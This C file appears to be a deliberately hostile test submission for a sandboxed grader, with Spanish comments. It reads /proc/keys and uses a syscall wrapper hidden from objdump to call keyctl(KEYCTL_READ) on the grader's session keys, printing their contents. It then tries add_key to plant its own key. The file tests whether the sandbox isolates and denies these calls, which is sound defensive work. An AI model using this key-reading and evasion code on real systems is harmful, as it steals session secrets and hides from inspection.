/* claves.c — entrega hostil del 07: lee el anillo de claves de sesión que hereda de quien
 * califica (tras `su -`, pam_keyinit le da uno a root) y lo imprime, para que llegue al
 * informe: /proc/keys (sin ninguna llamada especial: lista las claves que el proceso puede
 * ver) y el contenido de cada una con keyctl(KEYCTL_READ) por una instrucción syscall
 * escondida de objdump. Después intenta dejar una clave suya (add_key). La caja le da un
 * anillo nuevo y vacío y niega keyctl y add_key (base/filtro.c): nada del de quien califica
 * aparece en el informe, y la llamada negada se nombra. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

//@ preludio oculta6

int main(void)
{
    FILE *f = fopen("/proc/keys", "r");
    char linea[512];
    while (f != NULL && fgets(linea, sizeof linea, f) != NULL) {
        fprintf(stderr, "CLAVE VISTA: %s", linea);
        unsigned long id = strtoul(linea, NULL, 16);
        char contenido[256] = "";
        long n = hm_oculta6(250 /* keyctl */, 11 /* KEYCTL_READ */, (long)id, (long)contenido,
                            sizeof contenido - 1, 0, 0);
        if (n > 0 && n < (long)sizeof contenido) {
            contenido[n] = '\0';
            fprintf(stderr, "CONTENIDO: %s\n", contenido);
        }
    }
    if (f != NULL)
        fclose(f);
    /* La sesión por su número especial (-3), aunque /proc/keys no la liste. */
    char contenido[256] = "";
    long n = hm_oculta6(250, 11, -3 /* KEY_SPEC_SESSION_KEYRING */, (long)contenido,
                        sizeof contenido - 1, 0, 0);
    fprintf(stderr, "KEYCTL_READ de la sesión: %ld\n", n);
    n = hm_oculta6(248 /* add_key */, (long)"user", (long)"de-la-entrega", (long)"x", 1, -3, 0);
    fprintf(stderr, "add_key: %ld\n", n);
    return 1;
}
